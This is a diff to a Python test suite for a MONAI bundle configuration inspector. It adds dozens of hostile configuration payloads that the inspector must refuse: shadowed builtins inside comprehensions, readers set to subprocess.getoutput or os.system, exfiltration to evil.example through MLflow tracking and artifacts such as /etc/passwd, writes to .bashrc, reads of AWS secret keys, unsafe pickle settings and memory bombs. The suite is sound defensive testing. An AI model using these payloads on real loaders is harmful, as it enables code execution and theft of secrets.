@@ -21,7 +21,7 @@ from cxr_monai.bundle.shipped import shipped_bundles
 from cxr_monai.errors import BundleError, Code
 from cxr_monai.sharing.allowlist import judge_callable, lists
 from cxr_monai.sharing.inspection import inspect
-from cxr_monai.sharing.remarks import Verdict
+from cxr_monai.sharing.remarks import Verdict, shortened
 from tests.sharing.zoo import CONFIGURATIONS
 
 SECONDS = 5.0
@@ -122,6 +122,118 @@ CONFIGS: dict[str, Callable[[Path], dict[str, Any]]] = {
     "format of a text with dunders": lambda c: {"x": "$f'{torch.__builtins__}'"},
     "quotes closed by a reference": lambda c: {"x": "$'@or + " + touch(c) + " + @or'"},
     "carriage return": lambda c: {"x": f"$print(1)\r{touch(c)}"},
+    # names that are not yet bound where they are used
+    "comprehension of open": lambda c: {"x": f"$[{touch(c)} for open in [open]]"},
+    "comprehension of eval": lambda c: {"x": f"$[eval({touch(c)!r}) for eval in [eval]]"},
+    "dictionary of open": lambda c: {"x": "${k: 0 for open in [open] for k in [" + touch(c) + "]}"},
+    "comprehension of a hidden name": lambda c: {"x": "$[0 for _a in [1]]"},
+    "condition of a comprehension": lambda c: {"x": f"$[0 for exec in [exec] if exec({touch(c)!r})]"},
+    "nested comprehension": lambda c: {"x": "$[[vars for vars in [vars]]]"},
+    "default of a lambda": lambda c: {"x": f"$(lambda open=open: {touch(c)})()"},
+    "default of a keyword": lambda c: {"x": f"$(lambda *, eval=eval: eval({touch(c)!r}))()"},
+    "default under another name": lambda c: {"x": f"$(lambda f=open: f({str(c)!r}, 'w'))()"},
+    "comprehension that assigns to a module": lambda c: {"x": "$[0 for torch.device in [print]]"},
+    "comprehension that assigns to a reference": lambda c: {"y": 1, "x": "$[0 for @y in ['subprocess.getoutput']]"},
+    "comprehension that assigns to an item": lambda c: {"y": {}, "x": "$[0 for @y['a'] in [1]]"},
+    "import under a builtin's name": lambda c: {"imports": ["$from glob import glob as open"]},
+    "import under MONAI's name": lambda c: {"imports": ["$import os as np"], "x": f"$np.mean({str(c)!r})"},
+    # what MONAI calls by name
+    "reader by expression": lambda c: {"x": {"_target_": "LoadImage", "reader": "$'subprocess.getoutput'"}},
+    "reader by reference": lambda c: {"y": "os.system", "x": {"_target_": "LoadImage", "reader": "@y"}},
+    "reader by macro": lambda c: {"y": ["os.system"], "x": {"_target_": "LoadImage", "reader": "%y"}},
+    "reader in a list by macro": lambda c: {"y": "os.system", "x": {"_target_": "LoadImage", "reader": ["%y"]}},
+    "reader by overlay": lambda c: {"x#reader": "subprocess.getoutput"},
+    "reader by merge": lambda c: {"+x#reader": ["subprocess.getoutput"]},
+    "reader by its place": lambda c: {"x#reader#0": "subprocess.getoutput"},
+    "reader from a target": lambda c: {
+        "x": {"_target_": "LoadImage", "reader": {"_target_": "str", "object": "subprocess.getoutput"}}},
+    "reader's target by overlay": lambda c: {"x#reader#_target_": "str", "x#reader#object": "subprocess.getoutput"},
+    "reader in an expression": lambda c: {
+        "x": f"$monai.transforms.LoadImage(reader='subprocess.getoutput', cmd='touch {c}')"},
+    "reader by position": lambda c: {"x": f"$monai.transforms.LoadImage('subprocess.getoutput', cmd='touch {c}')"},
+    "loader under another name": lambda c: {
+        "imports": ["$import monai.transforms as mt"], "x": f"$mt.LoadImage('subprocess.getoutput', cmd='touch {c}')"},
+    "loader by import": lambda c: {"imports": ["$from monai.transforms import LoadImage as f"]},
+    "loader handed on": lambda c: {"imports": ["$import functools"], "x": "$functools.partial(monai.data.PILReader)"},
+    "loader kept": lambda c: {"x": {"_target_": "LoadImage", "_mode_": "callable"}, "y": "$@x('os.system')"},
+    "loader kept by overlay": lambda c: {"x#_mode_": "callable"},
+    "loader kept by merge": lambda c: {"+x": {"_mode_": "partial"}},
+    "loader in a kept place": lambda c: {
+        "y": {"_target_": "torch.optim.Adam", "_mode_": "callable"}, "y#_target_": "LoadImage"},
+    "loader merged into a kept place": lambda c: {
+        "y": {"_target_": "torch.optim.Adam", "_mode_": "callable"}, "+y": {"_target_": "LoadImage"}},
+    "reader of what is called later": lambda c: {"f": {}, "x": "$@f(reader=['os.' + 'system'])"},
+    "arguments behind two stars": lambda c: {"x": "$monai.data.decollate_batch(**dict([('rea' + 'der', 1)]))"},
+    "arguments behind a star": lambda c: {"x": "$print(*[1])"},
+    "writer by expression": lambda c: {"x": {"_target_": "SaveImage", "writer": "$'subprocess.getoutput'"}},
+    "merger": lambda c: {"x": {"_target_": "PatchInferer", "merger_cls": "subprocess.getoutput"}},
+    "encoders": lambda c: {"x": {"_target_": "FlexUNetEncoderRegister"}},
+    # files that are no configurations
+    "macro to a text": lambda c: {"x": "%docs/evil.json#x"},
+    "macro to a text by a key": lambda c: {"docs/evil.json": {"x": "%#y"}},
+    "macro with two files": lambda c: {"x": "%configs/inference.json/../../docs/evil.json#x"},
+    "macro to YAML": lambda c: {"x": "%docs/evil.yaml#x"},
+    "macro on a second line": lambda c: {"x": "%a\ndocs/evil.json#x"},
+    "macro to an import": lambda c: {"imports": ["$import os"], "x": "%imports#0"},
+    "macro to an import with a blank": lambda c: {"d": {"i": "$import os"}, "x": "%d# i"},
+    "macro to a macro": lambda c: {"x": "%a%#y"},
+    "macro of everything": lambda c: {"x": "%", "y": "%", "z": "%"},
+    # references that depend on their place
+    "relative reference to an import": lambda c: {"imports": ["$import os", "@#0"]},
+    "relative reference in an expression": lambda c: {
+        "1 or [0][" + touch(c) + " and 0": {"y": "%x"}, "x": "$[1][@#eval('1')]"},
+    "formatting that is a macro": lambda c: {"x": "$[7 %#y]"},
+    "reference to a merged import": lambda c: {"+imports": ["$import os"], "x": "$@imports#5.path"},
+    "MONAI's references by their name": lambda c: {"imports": ["$import os"], "x": "$__local_refs['imports::0']"},
+    "a key within a key": lambda c: {"x": {"a#b": {"y": "%##z"}}},
+    "merged target": lambda c: {"+_target_": "subprocess.getoutput", "cmd": f"touch {c}"},
+    # arguments that run or load programs, whatever takes them
+    "allow_pickle": lambda c: {"x": {"_target_": "NumpyReader", "allow_pickle": True}},
+    "allow_pickle by expression": lambda c: {"x": {"_target_": "LoadImage", "allow_pickle": "$1 == 1"}},
+    "allow_pickle in an expression": lambda c: {"x": "$monai.data.decollate_batch(allow_pickle=True)"},
+    "allow_pickle by overlay": lambda c: {"x#allow_pickle": 1},
+    "weights_only": lambda c: {"x": {"_target_": "PersistentDataset", "weights_only": False}},
+    "pickle_module": lambda c: {"x": {"_target_": "PersistentDataset", "pickle_module": "dill"}},
+    "debug": lambda c: {"x": {"_target_": "DenseNet121", "_debug_": True}},
+    "trust_folder": lambda c: {"x": {"_target_": "cxr_monai.finetune.child.Child", "trust_folder": True}},
+    # downloads
+    "PerceptualLoss": lambda c: {"x": {"_target_": "PerceptualLoss"}},
+    "CSVDataset": lambda c: {"x": {"_target_": "CSVDataset", "src": "$'http' + '://evil.example'"}},
+    "Transchex": lambda c: {"x": {"_target_": "monai.networks.nets.Transchex"}},
+    "pretrained": lambda c: {"x": {"_target_": "resnet50", "pretrained": True}},
+    "pretrained by reference": lambda c: {"y": True, "x": {"_target_": "resnet50", "pretrained": "@y"}},
+    "pretrained unless told": lambda c: {"x": {"_target_": "EfficientNetBN", "model_name": "efficientnet-b0"}},
+    "pretrained unless told by overlay": lambda c: {"x#_target_": "EfficientNetBN"},
+    "pretrained by position": lambda c: {"x": "$monai.networks.nets.resnet50(True)"},
+    "pretrained_url": lambda c: {"x": {"_target_": "HoVerNet", "pretrained_url": "https://evil.example"}},
+    # what writes and connects
+    "remote tracking": lambda c: {"x": {"_target_": "MLFlowHandler", "tracking_uri": "https://evil.example"}},
+    "remote tracking by expression": lambda c: {"tracking_uri": "$'https:' + '//evil.example'"},
+    "artifacts": lambda c: {"x": {"_target_": "MLFlowHandler", "artifacts": ["/etc/passwd"]}},
+    "absolute place": lambda c: {"x": {"_target_": "SaveImage", "output_dir": str(c)}},
+    "place above": lambda c: {"x": {"_target_": "LogfileHandler", "output_dir": ".", "filename": "../../.bashrc"}},
+    "text of a log": lambda c: {"x": {"_target_": "LogfileHandler", "output_dir": ".", "formatter": f"touch {c}"}},
+    "folder elsewhere": lambda c: {"imports": ["$import os"], "x": f"$os.makedirs({str(c)!r})"},
+    "rendezvous": lambda c: {"x": "$torch.distributed.init_process_group('gloo', init_method='tcp://10.0.0.1:1')"},
+    "rendezvous by position": lambda c: {"x": "$torch.distributed.init_process_group('gloo', 'tcp://10.0.0.1:1')"},
+    "rendezvous handed on": lambda c: {"x": "$list(map(torch.distributed.init_process_group, ['gloo']))"},
+    "a table's eval": lambda c: {"y": 1, "x": "$@y.eval('@pd.compat.os.system(1)')"},
+    "a table's eval handed on": lambda c: {"y": 1, "x": "$list(map(@y.eval, ['1']))"},
+    "secrets of the environment": lambda c: {"imports": ["$import os"], "x": "$os.environ['AWS_SECRET_ACCESS_KEY']"},
+    # texts that reach attributes
+    "format in pieces": lambda c: {"y": 1, "x": "$('{0._' + '_init_' + '_}').format(@y)"},
+    "format of an attribute": lambda c: {"y": 1, "x": "$'{0.a}'.format(@y)"},
+    "format handed on": lambda c: {"y": 1, "x": "$list(map('{0.a}'.format, [@y]))"},
+    "format of a text": lambda c: {"x": "$str.format('{0.a}', 1)"},
+    # memory
+    "product": lambda c: {"x": "$[0] * 99999999 * 99999999"},
+    "wide text": lambda c: {"x": "$f'{1:99999999999}'"},
+    "computed width": lambda c: {"x": "$'%*d' % (99999999, 1)"},
+    "power of a name": lambda c: {"x": "$[x ** 9 for x in [9 ** 9]]"},
+    "2,000 references": lambda c: {"x": "$" + "".join(f"@a{number}" for number in range(2000))},
+    "400,000 references": lambda c: {"x": "$" + "".join(f"@a{number}" for number in range(400_000))},
+    "a path that no system takes": lambda c: {"x": "%" + "a" * 5000 + ".json"},
+    "half a letter": lambda c: {"x\ud800": "$open(1)"},
 }  # fmt: skip
 
 
@@ -137,7 +249,7 @@ def test_a_configuration_that_tries_to_run_something_is_refused_where_it_stands(
     assert time.monotonic() - began < SECONDS
     assert refused
     assert {remark.file for remark in refused} == {"configs/inference.json"}
-    assert {remark.where.split("#")[0] for remark in refused} <= {key.replace("::", "#").split("#")[0] for key in added}
+    assert {remark.where.split("#")[0] for remark in refused} <= {shortened(key).split("#")[0] for key in added}
     assert all(remark.reason.endswith(".") for remark in refused)
     assert not canary.exists()
 
@@ -158,6 +270,9 @@ RAW = {
     "a long number": b'{"x": ' + b"9" * 100_000 + b"}",
     "a string without an end": b'{"x": "' + b'\\"' * 1_000_000,
     "many strings without an end": b'"' + b'\\"' * 1_000_000 + b"\\",
+    "a key of 2,000 characters": b'{"' + b"a" * 2000 + b'": 1}',
+    "an id of 2,000 characters": b'{"' + b"a" * 600 + b'": {"' + b"b" * 600 + b'": 1}}',
+    "300,000 items": b'{"x": [' + b"1," * 300_000 + b"1]}",
     "5 MB": b'{"x": "' + b"a" * (5 << 20) + b'"}',
 }
 
